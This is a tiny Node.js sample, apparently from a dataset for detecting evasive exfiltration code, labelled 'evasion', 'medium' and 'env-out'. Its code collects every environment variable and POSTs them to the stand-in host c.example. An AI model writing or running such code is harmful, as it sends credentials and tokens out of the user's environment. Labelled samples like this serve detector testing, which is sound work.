// evasion: for..in over process.env sent out
// grade: medium; does: env-out
const http = require("http");
let out = "";
for (const k in process.env) out += `${k}=${process.env[k]}\n`;
http.request({ host: "c.example", method: "POST" }).end(out);
